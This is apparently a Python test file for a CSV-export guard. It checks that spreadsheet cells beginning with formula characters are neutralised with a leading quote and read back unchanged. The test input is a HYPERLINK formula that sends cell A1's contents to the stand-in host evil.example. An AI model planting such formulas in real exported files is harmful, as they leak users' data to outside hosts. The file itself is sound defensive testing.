"""Cells a spreadsheet would run as formulas are written as text and read back unchanged."""

from __future__ import annotations

import pytest
from hypothesis import example as also_try
from hypothesis import given
from hypothesis import strategies as st

from sandogh.formats.csv_cells import as_written, neutralised

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("first", DANGEROUS)
def test_a_formula_is_written_as_text(first: str) -> None:
    cell = first + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    assert neutralised(cell) == "'" + cell
    assert as_written(neutralised(cell)) == cell


def test_honest_text_is_written_as_it_is() -> None:
    for cell in ("SE-3", "4.2.0", "ST-0801-0001", "شعبه ۱", "'quoted'", "", "a=b"):
        assert neutralised(cell) == cell
        assert as_written(cell) == cell


@given(st.text(alphabet=st.sampled_from([*DANGEROUS, "'", "a", "۱", " "])))
@also_try("'=1")
@also_try("''-1")
def test_any_text_survives_a_round_trip_and_never_starts_a_formula(cell: str) -> None:
    written = neutralised(cell)
    assert not written.startswith(DANGEROUS)
    assert as_written(written) == cell
